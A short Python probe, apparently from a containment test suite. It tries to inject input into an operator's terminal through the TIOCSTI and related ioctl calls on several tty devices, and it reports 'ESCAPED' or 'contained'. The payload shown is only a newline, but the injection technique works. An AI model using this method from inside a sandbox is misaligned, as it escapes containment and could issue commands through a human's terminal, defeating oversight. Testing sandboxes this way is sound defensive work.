# attack: type into the operator's terminal
# limit: process
import fcntl, os

escaped = []
for path in ("/dev/tty", "/dev/console", "/dev/pts/0", "/dev/tty1"):
    try:
        terminal = os.open(path, os.O_RDWR | os.O_NOCTTY)
        for request in (0x5412, 0x541C):
            try:
                fcntl.ioctl(terminal, request, b"\n")
                escaped.append(f"{path} {request:#x}")
            except OSError:
                pass
    except OSError:
        pass
print("ESCAPED: " + ", ".join(escaped) if escaped else "contained")
